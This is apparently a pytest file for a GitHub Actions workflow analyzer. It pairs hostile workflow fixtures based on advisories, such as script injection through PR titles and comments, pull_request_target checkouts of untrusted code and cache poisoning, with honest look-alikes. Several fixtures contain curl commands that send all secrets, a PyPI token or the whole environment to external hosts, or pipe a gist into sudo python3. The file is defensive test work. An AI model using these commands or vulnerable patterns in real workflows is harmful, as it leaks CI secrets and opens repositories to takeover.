"""Changes of workflows as advisories tell of them, and honest ones that look much the same."""

from __future__ import annotations

import textwrap

import pytest

from regreen.reviewers.analyzers.workflows import find_risks

PIN = "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8"
# Said below the threshold: a tag, an input or a list of files alone is too common to post.
UNPOSTED = {"changed files", "tag retag", "composite input"}


def wf(on: str, steps: str, perms: str = "", job: str = "", env: str = "") -> str:
    """A workflow of one job."""

    def indented(text: str, by: int) -> str:
        return textwrap.indent(text.strip("\n"), " " * by) + "\n"

    return (
        f"name: x\non:\n{indented(on, 2)}"
        + (f"permissions:\n{indented(perms, 2)}" if perms else "")
        + (env + "\n" if env else "")
        + "jobs:\n  a:\n    runs-on: ubuntu-latest\n"
        + (indented(job, 4) if job else "")
        + f"    steps:\n{indented(steps, 6)}"
    )


HOSTILE = {
    "ultralytics branch name": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n- run: |\n    git config user.name bot\n    git push origin HEAD:${{{{ github.head_ref }}}}",
    ),
    "nx title echo": wf(
        "pull_request_target:\n  types: [opened, edited]\n",
        '- name: check title\n  run: |\n    TITLE="${{ github.event.pull_request.title }}"\n    node check.js "$TITLE"',
    ),
    "issue comment body": wf(
        "issue_comment:\n", '- run: echo "${{ github.event.comment.body }}" | grep deploy'
    ),
    "github-script body": wf(
        "issues:\n",
        "- uses: actions/github-script@v7\n  with:\n    script: |\n      const t = `${{ github.event.issue.body }}`\n      console.log(t)",
    ),
    "prt checkout npm": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n  with:\n    ref: ${{{{ github.event.pull_request.head.sha }}}}\n- run: npm ci && npm test",
    ),
    "prt merge ref": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n  with:\n    ref: refs/pull/${{{{ github.event.number }}}}/merge\n- run: pip install -e . && pytest",
    ),
    "workflow_run artifact": wf(
        "workflow_run:\n  workflows: [ci]\n  types: [completed]\n",
        "- uses: actions/download-artifact@v4\n  with:\n    run-id: ${{ github.event.workflow_run.id }}\n    github-token: ${{ github.token }}\n- run: bash ./artifact/run.sh",
    ),
    "workflow_run env from artifact": wf(
        "workflow_run:\n  workflows: [ci]\n",
        "- uses: actions/download-artifact@v4\n  with:\n    run-id: ${{ github.event.workflow_run.id }}\n- run: cat pr.env >> $GITHUB_ENV",
    ),
    "gh pr checkout on comment": wf(
        "issue_comment:\n  types: [created]\n",
        f"- uses: {PIN}\n- run: gh pr checkout ${{{{ github.event.issue.number }}}} && make bench\n  env:\n    GH_TOKEN: ${{{{ secrets.PAT }}}}",
    ),
    "moving action branch": wf(
        "push:\n", "- uses: some/deploy-action@main\n  with:\n    token: ${{ secrets.DEPLOY }}"
    ),
    "write-all": wf("push:\n", f"- uses: {PIN}\n- run: make").replace(
        "jobs:", "permissions: write-all\njobs:"
    ),
    "exfil secrets": wf(
        "push:\n",
        "- run: curl -X POST -d '${{ toJSON(secrets) }}' https://bold-dhawan.45-139-104-115.plesk.page",
    ),
    "exfil one secret": wf(
        "push:\n",
        "- run: curl -s -X POST -d 'PYPI=${{ secrets.PYPI_API_TOKEN }}' https://evil.example/collect",
    ),
    "exfil env": wf(
        "push:\n", "- run: env | base64 | curl -X POST --data-binary @- https://evil.example/c"
    ),
    "curl pipe bash": wf(
        "push:\n",
        "- run: curl -s https://gist.githubusercontent.com/x/raw/a.py | sudo python3",
        perms="contents: write",
    ),
    "commit message": wf(
        "push:\n",
        '- run: |\n    if [[ "${{ github.event.head_commit.message }}" == *skip* ]]; then exit 0; fi',
    ),
    "env to run via GITHUB_ENV": wf(
        "pull_request_target:\n",
        '- run: echo "TITLE=$TITLE" >> $GITHUB_ENV\n  env:\n    TITLE: ${{ github.event.pull_request.body }}',
    ),
    "unsafe commands": wf(
        "push:\n", "- run: make", env="env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true"
    ),
    "secrets inherit prt": "name: x\non: pull_request_target\njobs:\n  a:\n    uses: other/repo/.github/workflows/w.yml@main\n    secrets: inherit\n",
    "cache poison prt": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n  with:\n    repository: ${{{{ github.event.pull_request.head.repo.full_name }}}}\n    ref: ${{{{ github.event.pull_request.head.ref }}}}\n- uses: actions/setup-node@v4\n  with:\n    cache: npm\n- run: npm i",
    ),
    "changed files": wf(
        "pull_request:\n",
        "- id: ch\n  uses: tj-actions/changed-files@v44\n- run: |\n    for f in ${{ steps.ch.outputs.all_changed_files }}; do lint $f; done",
    ),
    "discussion": wf(
        "discussion:\n  types: [created]\n",
        "- run: ./notify.sh '${{ github.event.discussion.title }}'",
    ),
    "tag retag": wf(
        "push:\n",
        "- uses: reviewdog/action-setup@v1\n  with:\n    github_token: ${{ secrets.GITHUB_TOKEN }}",
        perms="contents: write",
    ),
    "git fetch pull": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n- run: |\n    git fetch origin pull/${{{{ github.event.number }}}}/head:pr\n    git checkout pr\n    make test",
    ),
    "composite input": "name: act\ninputs:\n  title:\n    required: true\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo ${{ inputs.title }}\n",
    "format()": wf(
        "pull_request_target:\n", "- run: echo ${{ format('{0}', github.event.pull_request.body) }}"
    ),
    "bracket syntax": wf("issues:\n", "- run: echo \"${{ github['event']['issue']['title'] }}\""),
    "env indirection": wf(
        "issues:\n",
        "- run: echo ${{ env.TITLE }}\n  env:\n    TITLE: ${{ github.event.issue.title }}",
    ),
    "job output": "name: x\non: issues\njobs:\n  one:\n    runs-on: ubuntu-latest\n    outputs:\n      t: ${{ github.event.issue.title }}\n    steps: [{run: 'true'}]\n  a:\n    needs: one\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ needs.one.outputs.t }}\n",
    "default shell injection": wf(
        "pull_request_target:\n",
        '- run: python - <<EOF\n    print("${{ github.event.pull_request.head.label }}")\n    EOF'.replace(
            "- run: python", "- run: |\n    python"
        ),
    ),
}

HONEST = {
    "title in env": wf(
        "pull_request_target:\n",
        '- run: node check.js "$TITLE"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}',
        perms="pull-requests: read",
    ),
    "prt label only": wf(
        "pull_request_target:\n",
        "- uses: actions/labeler@v5",
        perms="contents: read\npull-requests: write",
    ),
    "prt base checkout": wf(
        "pull_request_target:\n",
        f"- uses: {PIN}\n- run: ./scripts/greet.sh",
        perms="contents: read",
    ),
    "pull_request head": wf(
        "pull_request:\n",
        f"- uses: {PIN}\n  with:\n    ref: ${{{{ github.event.pull_request.head.sha }}}}\n- run: npm test",
        perms="contents: read",
    ),
    "number in run": wf("pull_request:\n", "- run: echo pr-${{ github.event.number }}"),
    "sha in run": wf("push:\n", "- run: docker build -t app:${{ github.sha }} ."),
    "ref_name push tag": wf(
        "push:\n  tags: ['v*']\n",
        "- run: gh release create $REF\n  env:\n    REF: ${{ github.ref_name }}\n    GH_TOKEN: ${{ github.token }}",
        perms="contents: write",
    ),
    "contains title": wf(
        "pull_request:\n",
        "- if: contains(github.event.pull_request.title, '[docs]')\n  run: make docs",
    ),
    "github-script context": wf(
        "issues:\n",
        "- uses: actions/github-script@v7\n  with:\n    script: |\n      const title = context.payload.issue.title\n      await github.rest.issues.addLabels({...context.repo, issue_number: context.issue.number, labels: ['x']})",
        perms="issues: write",
    ),
    "pinned third party": wf(
        "push:\n", "- uses: docker/build-push-action@4f58ea79222b3b9dc2c8bbdd6debcef730109a75 # v6"
    ),
    "tagged third party read": wf(
        "pull_request:\n",
        "- uses: astral-sh/setup-uv@v5\n- run: uv run pytest",
        perms="contents: read",
    ),
    "secret in env": wf(
        "push:\n", "- run: twine upload dist/*\n  env:\n    TWINE_PASSWORD: ${{ secrets.PYPI }}"
    ),
    "secret login stdin": wf(
        "push:\n",
        '- run: echo "${{ secrets.GHCR }}" | docker login ghcr.io -u bot --password-stdin',
    ),
    "oidc publish": wf(
        "release:\n  types: [published]\n",
        "- uses: pypa/gh-action-pypi-publish@release/v1",
        perms="id-token: write",
    ),
    "workflow_run read": wf(
        "workflow_run:\n  workflows: [ci]\n  types: [completed]\n",
        "- run: echo ${{ github.event.workflow_run.conclusion }}",
        perms="contents: read",
    ),
    "dispatch input env": wf(
        "workflow_dispatch:\n  inputs:\n    v:\n      type: string\n",
        '- run: ./release.sh "$V"\n  env:\n    V: ${{ inputs.v }}',
    ),
    "dispatch choice": wf(
        "workflow_dispatch:\n  inputs:\n    env:\n      type: choice\n      options: [a, b]\n",
        "- run: ./deploy.sh ${{ inputs.env }}",
    ),
    "matrix in run": wf(
        "push:\n",
        "- run: tox -e ${{ matrix.env }}",
        job="strategy:\n  matrix:\n    env: [py311, py312]",
    ),
    "curl api": wf(
        "push:\n",
        "- run: |\n    curl -fsS -H \"Authorization: Bearer $T\" https://api.github.com/repos/a/b/dispatches -d '{}'\n  env:\n    T: ${{ secrets.PAT }}",
    ),
    "curl installer rustup": wf(
        "push:\n", "- run: curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y"
    ),
    "codecov": wf(
        "push:\n",
        "- uses: codecov/codecov-action@v5\n  with:\n    token: ${{ secrets.CODECOV_TOKEN }}",
        perms="contents: read",
    ),
    "slack notify secret url": wf(
        "push:\n",
        '- run: |\n    curl -X POST -d \'{"text":"done"}\' "$HOOK"\n  env:\n    HOOK: ${{ secrets.SLACK_WEBHOOK }}',
    ),
    "env to file": wf("push:\n", '- run: echo "VERSION=$(cat VERSION)" >> $GITHUB_ENV'),
    "comment slash guarded": wf(
        "issue_comment:\n  types: [created]\n",
        "- if: github.event.comment.author_association == 'OWNER' && github.event.comment.body == '/deploy'\n  run: ./deploy.sh",
        perms="contents: read",
    ),
    "reusable pinned": "name: x\non: push\njobs:\n  a:\n    uses: ./.github/workflows/w.yml\n    secrets: inherit\n",
    "download-artifact same run": wf(
        "push:\n",
        "- uses: actions/download-artifact@v4\n  with:\n    name: dist\n- run: ls dist",
        perms="contents: read",
    ),
    "actor": wf("pull_request:\n", "- run: echo ${{ github.actor }} ${{ github.repository }}"),
    "schedule": wf("schedule:\n  - cron: '0 3 * * 1'\n", f"- uses: {PIN}\n- run: make nightly"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE.keys() - UNPOSTED))
def test_what_lets_a_stranger_in_is_posted(name: str) -> None:
    assert [risk for risk in find_risks(HOSTILE[name]) if risk.confidence >= 0.8]


@pytest.mark.parametrize("name", sorted(UNPOSTED))
def test_what_is_common_and_seldom_misused_is_said_more_quietly(name: str) -> None:
    assert [risk for risk in find_risks(HOSTILE[name]) if 0.5 <= risk.confidence < 0.8]


@pytest.mark.parametrize("name", sorted(HONEST))
def test_an_honest_workflow_is_left_alone(name: str) -> None:
    assert [risk for risk in find_risks(HONEST[name]) if risk.confidence >= 0.8] == []
